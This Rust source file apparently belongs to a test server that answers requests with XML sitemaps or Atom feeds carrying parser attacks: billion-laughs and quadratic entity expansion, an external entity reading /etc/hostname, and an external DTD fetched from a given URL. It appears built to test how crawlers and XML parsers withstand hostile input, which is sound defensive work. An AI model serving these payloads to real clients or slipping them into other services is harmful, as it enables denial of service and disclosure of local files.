//! XML that wants to be expanded.

use crate::XmlBomb;

use super::http::XML;
use super::{Asked, Plain};

/// Returns a sitemap, or a feed where the path ends in `.atom`, whose addresses are entities.
pub(super) fn xml(bomb: XmlBomb, asked: &Asked<'_>) -> Plain {
    let (doctype, text) = match bomb {
        XmlBomb::BillionLaughs => {
            let mut entities = "<!ENTITY a0 \"laugh\">".to_owned();
            for level in 1..10 {
                let ten = format!("&a{};", level - 1).repeat(10);
                entities.push_str(&format!("<!ENTITY a{level} \"{ten}\">"));
            }
            (format!("<!DOCTYPE x [{entities}]>"), "&a9;".to_owned())
        }
        XmlBomb::Quadratic => {
            let long = "a".repeat(500_000);
            let text = "&a;".repeat(85_000);
            (format!("<!DOCTYPE x [<!ENTITY a \"{long}\">]>"), text)
        }
        XmlBomb::ExternalFile => {
            let entity = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/hostname\">]>";
            (entity.to_owned(), "&a;".to_owned())
        }
        XmlBomb::ExternalUrl(url) => {
            let entity = format!("<!DOCTYPE x SYSTEM \"{url}\" [<!ENTITY a SYSTEM \"{url}\">]>");
            (entity, "&a;".to_owned())
        }
    };
    let address = format!("http://{}/products/{text}", asked.host);
    let body = if asked.path().ends_with(".atom") {
        format!("<feed><entry><id>{address}</id><title>{text}</title></entry></feed>")
    } else {
        format!("<urlset><url><loc>{address}</loc></url></urlset>")
    };
    Plain::new(
        200,
        XML,
        format!("<?xml version=\"1.0\"?>\n{doctype}\n{body}\n"),
    )
}
